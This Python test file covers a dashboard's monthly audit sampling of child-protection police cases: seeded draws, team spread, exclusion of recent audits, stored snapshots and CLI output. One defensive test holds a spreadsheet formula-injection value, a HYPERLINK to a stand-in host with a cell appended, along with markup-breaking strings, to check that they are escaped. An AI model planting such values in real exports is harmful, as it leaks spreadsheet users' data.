"""Case audits, the central monthly draw: deterministic for a seed, spread over teams, recent
audits excluded, empty categories reported; stored with its seed and snapshots. Run on SQLite
and on a real PostgreSQL (the ``app_db_url`` fixture)."""

from __future__ import annotations

import subprocess
import sys
from collections import Counter
from datetime import date

import pandas as pd
import pytest
from sqlalchemy import func, select

from dashboard import data
from dashboard.appdb import upgrade
from dashboard.appdb.models import Audit, AuditEvent, AuditSample
from dashboard.audits import sampling, service
from dashboard.audits.config import AuditConfig, Category, Clause, load_config
from dashboard.scope import Scope
from etl.load import load
from etl.settings import Settings
from etl.testing import build_fixture_warehouse, write_extracts

AREAS = ("West", "East", "South")
PPU = Scope("ppu", "ppu", AREAS)
JULY = date(2018, 7, 1)  # draws from the fixture's June cases


@pytest.fixture
def warehouse(tmp_path, monkeypatch):
    """The fixture warehouse (etl/testing.py FIXTURE); the access log in a temporary file."""
    build_fixture_warehouse(tmp_path / "extract", tmp_path / "w.duckdb")
    here = {"db_path": tmp_path / "w.duckdb", "audit_path": tmp_path / "access.sqlite"}
    moved = data.settings().model_copy(update=here)
    monkeypatch.setattr(data, "settings", lambda: moved)
    # The commands these tests run in a subprocess read their settings from the environment.
    monkeypatch.setenv("PVP_AUDIT_PATH", str(tmp_path / "access.sqlite"))
    return tmp_path / "w.duckdb"


def candidates(rows: list[tuple[str, str, str]]) -> pd.DataFrame:
    """(investigation_id, area, team) rows, every one child-related on a CP team."""
    return pd.DataFrame(
        [
            {
                "investigation_id": i,
                "area": a,
                "team": t,
                "team_type": "child_protection",
                "offence": "neglect",
                "incident_type": None,
                "child_reasons": ["specialist_team"],
            }
            for i, a, t in rows
        ]
    )


def config_with(n_categories: int) -> AuditConfig:
    base = load_config()
    cats = [Category(key=f"c{i}", name=f"C{i}", match=[Clause()]) for i in range(n_categories)]
    return base.model_copy(update={"categories": cats})


def test_the_same_seed_draws_the_same_cases_and_another_seed_may_not():
    pool = candidates([(f"W{i:03}", "West", f"team {i % 4}") for i in range(60)])
    config = config_with(9)
    first = sampling.draw(pool, config, ["West"], 42, "response_child", 9)
    assert first == sampling.draw(
        pool.sample(frac=1, random_state=1), config, ["West"], 42, "response_child", 9
    )
    draws = {
        tuple(
            d.investigation_id
            for d in sampling.draw(pool, config, ["West"], seed, "response_child", 9)[0]
        )
        for seed in range(20)
    }
    assert len(draws) > 15


def test_no_team_gets_two_while_another_eligible_team_gets_none():
    # Team A holds almost every case; B and C one each: all three must be drawn before any
    # team gets a second case.
    rows = [(f"A{i:02}", "West", "A") for i in range(30)] + [
        ("B1", "West", "B"),
        ("C1", "West", "C"),
    ]
    for seed in range(50):
        drawn, empty = sampling.draw(
            candidates(rows), config_with(3), ["West"], seed, "response_child", 3
        )
        assert sorted(d.team for d in drawn) == ["A", "B", "C"], seed
        assert empty == []
    # Ten cases over four teams: 3, 3, 2, 2 and never 4 + 2 + 2 + 2.
    rows = [(f"{t}{i}", "West", t) for t in "ABCD" for i in range(8)]
    for seed in range(50):
        drawn, _ = sampling.draw(
            candidates(rows), config_with(10), ["West"], seed, "response_child", 10
        )
        counts = Counter(d.team for d in drawn)
        assert max(counts.values()) - min(counts.values()) <= 1 and len(counts) == 4, seed


def test_a_category_is_left_empty_only_when_no_draw_could_fill_it():
    """An adversarial pass (session 25): X and Y on one team, Z on another; categories p
    {X, Y}, q {X, Z} and r {Y, Z}. One draw fills all three, but the spread put q on Z
    after p took X, leaving r no case: 21 of 40 seeds said "no eligible case" for one. Now
    every seed fills all three (a maximum matching), the spread kept where it costs none; a
    fourth category s {X}: three cases fill at most three of the four, and one is reported
    empty."""
    pool = candidates([("X", "West", "A"), ("Y", "West", "A"), ("Z", "West", "B")])
    pool["offence"] = ["p q s", "p r", "q r"]
    cats = [Category(key=k, name=k, match=[Clause(offence_words=[k])]) for k in "pqr"]
    config = load_config().model_copy(update={"categories": cats})
    for seed in range(40):
        drawn, empty = sampling.draw(pool, config, ["West"], seed, "response_child", 3)
        assert sorted(d.category for d in drawn) == ["p", "q", "r"] and empty == [], seed
        assert len({d.investigation_id for d in drawn}) == 3
    four = config.model_copy(update={"categories": [*cats, Category(
        key="s", name="s", match=[Clause(offence_words=["s"])])]})  # fmt: skip
    for seed in range(40):
        drawn, empty = sampling.draw(pool, four, ["West"], seed, "response_child", 4)
        assert len(drawn) == 3 and len(empty) == 1, seed


def test_recently_audited_cases_are_not_drawn():
    pool = candidates([("W1", "West", "A"), ("W2", "West", "B")])
    config = config_with(2)
    drawn, empty = sampling.draw(pool, config, ["West"], 1, "response_child", 2, {"W1"})
    assert [d.investigation_id for d in drawn] == ["W2"]
    assert empty == [{"area": "West", "category": "c0"}] or empty == [
        {"area": "West", "category": "c1"}
    ]


def test_a_category_with_no_eligible_case_is_reported_not_skipped():
    pool = candidates([("W1", "West", "A")])
    config = load_config()  # CP team, neglect: child abuse and police protection only
    drawn, empty = sampling.draw(pool, config, ["West", "East"], 3, "response_child", 10)
    assert len(drawn) == 1 and drawn[0].category in {"child_abuse", "police_protection"}
    assert len([e for e in empty if e["area"] == "West"]) == 9
    assert [e["category"] for e in empty if e["area"] == "East"] == [
        *[c.key for c in config.categories],
        "response_child",
    ]


def test_cases_per_area_beyond_the_categories_are_any_child_related_case():
    config = config_with(2)
    keys = [s.key for s in sampling.slots(config, "response_child", 5)]
    assert keys == ["c0", "c1", "response_child", "any", "any"]
    assert [s.key for s in sampling.slots(config, "response_child", 1)] == ["c0"]
    with pytest.raises(ValueError, match="force-interest"):
        sampling.slots(config, "c0", 3)


def test_the_draw_is_stored_with_seed_snapshot_and_history(warehouse, appdb):
    sample = service.store_sample(appdb, PPU, JULY, seed=11)
    assert (sample.seed, sample.as_of, sample.interest_category) == (
        11,
        date(2018, 6, 28),  # the newest data in the warehouse, before June's last day
        "response_child",
    )
    audits = service.list_audits(appdb, PPU, JULY)
    ids = {a.investigation_id for a in audits}
    # Child-related cases active in June; S-ADULT (no child reason) never.
    assert ids <= {"W-OVERDUE", "W-NEW", "W-DUE", "W-RESP", "W-OK", "E-OVERDUE", "E-RESP", "S-DUE"}
    assert {a.area for a in audits} == set(AREAS)
    assert all(a.status == "sampled" and a.answers == {} and a.version == 1 for a in audits)
    east = next(a for a in audits if a.investigation_id == "E-OVERDUE")
    snap = east.snapshot
    assert snap["as_of"] == "2018-06-28" and snap["record"]["team"] == "East CP 1"
    assert snap["measures"]["gaps_over_window"] == 1 and snap["measures"]["entries"] == 3
    assert {"flag": "ds_review_overdue", "days": 58, "reasons": "since_last_ds_review"} in snap[
        "flags"
    ]
    # The same seed shows the same draw again.
    _, _, again, empty, _ = service.draw_month(appdb, PPU, JULY, seed=11)
    assert [(d.area, d.investigation_id) for d in again] == [
        (a.area, a.investigation_id) for a in audits
    ]
    assert sample.empty_categories == empty and len(empty) == 30 - len(audits)
    with pytest.raises(service.AlreadySampled, match="seed 11"):
        service.store_sample(appdb, PPU, JULY, seed=12)
    with appdb.transaction() as s:
        assert s.scalar(select(func.count()).select_from(AuditEvent)) == len(audits)
        assert s.scalar(select(func.count()).select_from(AuditSample)) == 1


def _data_reaching_july(warehouse) -> None:
    """The next day's extract on top of the fixture: one entry on 02/07/2018, and a child
    protection case opened on 01/07 (July's draw takes every case the fixture has)."""
    entry = {"review_id": "JULY-1", "investigation_id": "W-OK", "reviewed_at": "2018-07-02 10:00"}
    case = {"investigation_id": "W-JULY", "opened_at": "2018-07-01 09:00", "team": "West CP 1",
            "team_type": "child_protection"}  # fmt: skip
    load(write_extracts(warehouse.parent / "july", investigations=[case], supervision=[entry]),
         warehouse, Settings())  # fmt: skip


def test_cases_audited_in_the_last_six_months_are_excluded(warehouse, appdb):
    service.store_sample(appdb, PPU, JULY, seed=5)
    first = {a.investigation_id for a in service.list_audits(appdb, PPU, JULY)}
    with appdb.transaction() as s:
        assert service.recently_audited(s, date(2019, 1, 1), 6) == first  # July is 6 back
        assert service.recently_audited(s, date(2019, 2, 1), 6) == set()
    _data_reaching_july(warehouse)
    _, _, drawn, _, _ = service.draw_month(appdb, PPU, date(2018, 8, 1), seed=5)
    assert drawn and not {d.investigation_id for d in drawn} & first


def test_a_month_is_drawn_only_once_the_data_reaches_the_month_before(warehouse, appdb):
    """An adversarial pass (session 24): August 2018 (drawn from July, which the data did not
    reach) and January 2030 were drawn and stored, each from the cases open on the newest day;
    a draw is kept for good, so the real one could never be made, and /audits and
    /audit-results moved to 2030. A month before the data stored an empty sample. The edge:
    August once an extract reaches 02/07."""
    for month, why in (
        (date(2018, 8, 1), "drawn from July 2018, which the data does not reach yet"),
        (date(2030, 1, 1), "drawn from December 2029, which the data does not reach yet"),
        (date(1900, 1, 1), "before the first month of data"),
    ):
        with pytest.raises(service.Invalid, match=why):
            service.store_sample(appdb, PPU, month, seed=5)
    with appdb.transaction() as s:
        assert s.scalar(select(func.count()).select_from(AuditSample)) == 0
    _data_reaching_july(warehouse)
    assert service.store_sample(appdb, PPU, date(2018, 8, 1), seed=5).as_of == date(2018, 7, 2)


def test_only_the_ppu_samples(warehouse, appdb):
    for role, areas in (("auditor", ("West",)), ("force", AREAS), ("moderator", AREAS)):
        with pytest.raises(service.Refused):
            service.store_sample(appdb, Scope("x", role, areas), JULY, seed=1)
    with appdb.transaction() as s:
        assert s.scalar(select(func.count()).select_from(Audit)) == 0


def test_the_command_line_prints_stores_and_reports_empty_categories(warehouse, tmp_path):
    url = f"sqlite:///{tmp_path / 'cli-app.sqlite'}"
    upgrade(url)
    run = [
        sys.executable,
        "-m",
        "dashboard",
        "audits",
        "sample",
        "--db",
        str(warehouse),
        "--month",
        "2018-07",
        "--seed",
        "9",
        "--format",
        "csv",
        "--app-db",
        url,
    ]
    dry = subprocess.run([*run, "--dry-run"], capture_output=True, text=True, check=True)
    lines = dry.stdout.splitlines()
    assert lines[0] == "area,category,investigation_id,team"
    assert "no eligible case: South, missing_children" in dry.stderr
    assert "not stored (dry run)" in dry.stderr
    stored = subprocess.run(run, capture_output=True, text=True, check=True)
    assert stored.stdout == dry.stdout and "seed 9" in stored.stderr
    again = subprocess.run(run, capture_output=True, text=True)
    assert again.returncode == 2 and "drawn already (seed 9)" in again.stderr
    show = [
        sys.executable,
        "-m",
        "dashboard",
        "audits",
        "show",
        "--month",
        "2018-07",
        "--format",
        "csv",
        "--app-db",
        url,
    ]
    shown = subprocess.run(show, capture_output=True, text=True, check=True)
    assert shown.stdout == dry.stdout and "seed 9" in shown.stderr


def test_two_draws_of_one_month_at_once_store_one(warehouse, appdb):
    import threading

    outcomes = []

    def draw(seed):
        try:
            outcomes.append(service.store_sample(appdb, PPU, JULY, seed=seed).seed)
        except service.AlreadySampled:
            outcomes.append("refused")

    threads = [threading.Thread(target=draw, args=(seed,)) for seed in (1, 2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(outcomes, key=str)[1] == "refused" and outcomes.count("refused") == 1
    with appdb.transaction() as s:
        assert s.scalar(select(func.count()).select_from(AuditSample)) == 1
        stored = s.scalar(select(AuditSample.seed))
        audits = s.scalar(select(func.count()).select_from(Audit))
    assert stored in (1, 2) and audits == len(service.list_audits(appdb, PPU, JULY))


def test_the_drawn_cases_print_as_text_never_as_a_formula_or_markup(capsys):
    """An adversarial pass (session 17): `audits sample --format csv` wrote an extract's
    `=HYPERLINK(...)` id as a live formula, and a team `[/oops]` (or `--month '[/x]'`) ended the
    table output with rich's MarkupError instead of text."""
    import typer

    from dashboard import cli

    rows = [("West", "neglect", '=HYPERLINK("http://x.example/?"&A1,"W-1")', "[/oops]")]
    cli._print_drawn(rows, "csv")
    out = capsys.readouterr().out.splitlines()
    assert out[1] == 'West,neglect,"\'=HYPERLINK(""http://x.example/?""&A1,""W-1"")",[/oops]'
    cli._print_drawn(rows, "table")
    assert "[/oops]" in capsys.readouterr().out
    cli._report_empty([{"area": "[/a]", "category": "[b]"}])
    assert "no eligible case: [/a], [b]" in capsys.readouterr().err
    with pytest.raises(typer.Exit):
        cli._month_arg("[/x]")
    assert "not '[/x]'" in capsys.readouterr().err


def test_an_audit_keeps_the_record_as_known_on_its_sampled_day(tmp_path, monkeypatch, appdb):
    """A sixth adversarial pass (session 17): the snapshot's record was the latest version, so
    a case moved to a CID team and closed after the sampled day showed those later facts under
    "as of 30/06/2018", beside flags of that day."""
    from etl.load import load
    from etl.settings import Settings
    from etl.testing import write_extracts

    db = tmp_path / "w.duckdb"
    case = {"investigation_id": "W1", "opened_at": "2018-06-01 10:00", "team": "West CP 1",
            "team_type": "child_protection", "officer_id": "DC1"}  # fmt: skip
    load(write_extracts(tmp_path / "one", investigations=[case]), db, Settings(),
         extracted_on=date(2018, 6, 30))  # fmt: skip
    later = {**case, "team": "West CID 9", "team_type": "cid", "officer_id": "DC9",
             "closed_at": "2018-07-02 10:00"}  # fmt: skip
    load(write_extracts(tmp_path / "two", investigations=[later]), db, Settings(),
         extracted_on=date(2018, 7, 3))  # fmt: skip
    here = {"db_path": db, "audit_path": tmp_path / "access.sqlite"}
    moved = data.settings().model_copy(update=here)
    monkeypatch.setattr(data, "settings", lambda: moved)
    sample = service.store_sample(appdb, PPU, JULY, seed=1)
    assert sample.as_of == date(2018, 6, 30)
    (audit,) = [a for a in service.list_audits(appdb, PPU, JULY) if a.investigation_id == "W1"]
    record = audit.snapshot["record"]
    assert (record["team"], record["team_type"], record["officer_id"]) == (
        "West CP 1",
        "child_protection",
        "DC1",
    )
    assert record["closed_at"] is None


def test_the_custody_category_is_the_children_detained_in_the_month(warehouse):
    """A newcomer's walk (session 25): /audits said "the extracts carry no custody record"
    while custody.csv was loaded, and drew the custody category by offence words. A case is
    now in it when a child was detained on it in the month drawn from (the fixture: K-W1 on
    W-NEW, 01/06; K-E1 names no case); offence words stand in only until a load brings
    custody records."""
    june = data.audit_candidates(PPU, date(2018, 6, 1), date(2018, 6, 30))
    custody = load_config().category("custody")
    rows = {r["investigation_id"]: r for r in june.to_dict("records")}
    assert [i for i, r in rows.items() if r["detained_in_month"]] == ["W-NEW"]
    assert all(r["custody_loaded"] for r in rows.values())
    assert [i for i, r in rows.items() if custody.matches(r)] == ["W-NEW"]
    may = data.audit_candidates(PPU, date(2018, 5, 1), date(2018, 5, 31))
    assert not may["detained_in_month"].any()  # detained in June, not May
    suspect = {"child_reasons": ["child_suspect"], "offence": "assault",
               "detained_in_month": False, "custody_loaded": False}  # fmt: skip
    assert custody.matches(suspect) and not custody.matches({**suspect, "custody_loaded": True})
